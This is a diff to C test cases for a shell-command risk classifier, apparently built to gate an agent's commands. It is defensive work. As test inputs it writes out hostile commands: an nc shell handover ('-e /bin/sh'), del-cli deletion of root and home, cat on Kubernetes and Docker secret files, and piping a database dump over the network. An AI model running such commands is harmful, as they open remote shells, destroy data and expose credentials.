@@ -222,7 +222,7 @@ Test(shell_queries, one_key_git_config_port_checks_and_pure_modules_read)
     shellt_expect("git config $KEY", RISKY, "bash.git");
     shellt_expect("nc -zv localhost 5432", SAFE, NULL);
     shellt_expect("nc -z -w2 db 5432", SAFE, NULL);
-    shellt_expect("nc -z -e /bin/sh h 22", DESTR, "bash.network_send");
+    shellt_expect("nc -z -e /bin/sh h 22", CRIT, "critical.shell_unseen_text");   /* -e hands a shell over (gate6) */
     shellt_expect("nc db 5432 < dump.sql", DESTR, "bash.network_send");
     shellt_expect("iconv -f latin1 -t utf-8 old.txt", SAFE, NULL);
     shellt_expect("iconv -f latin1 -t utf-8 old.txt -o new.txt", RISKY, "bash.unknown_program");
@@ -242,4 +242,19 @@ Test(shell_queries, stash_with_options_and_gawk_inplace_ask)
     shellt_expect("git stash show -p stash@{1}", SAFE, NULL);
     shellt_expect("gawk --inplace '{print}' f", RISKY, "bash.unsafe_option");
     shellt_expect("gawk --load=filefuncs 'BEGIN{}'", RISKY, "bash.unsafe_option");
+}
+
+Test(shell_queries, del_cli_is_a_tree_deleter)
+{
+    shellt_expect("npx -y del-cli '/**' --force", CRIT, "critical.rm_root");
+    shellt_expect("del-cli ~", CRIT, "critical.rm_home");
+    shellt_expect("npx del-cli dist", RISKY, "bash.package_manager");
+}
+
+Test(shell_queries, mounted_secrets_are_credential_files)
+{
+    shellt_expect("cat /var/run/secrets/kubernetes.io/serviceaccount/token", RISKY, "bash.reads_secret");
+    shellt_expect("cat /run/secrets/db_password", RISKY, "bash.reads_secret");
+    shellt_expect("ls /run/secrets", SAFE, NULL);
+    shellt_expect("cat src/main.c", SAFE, NULL);
 }
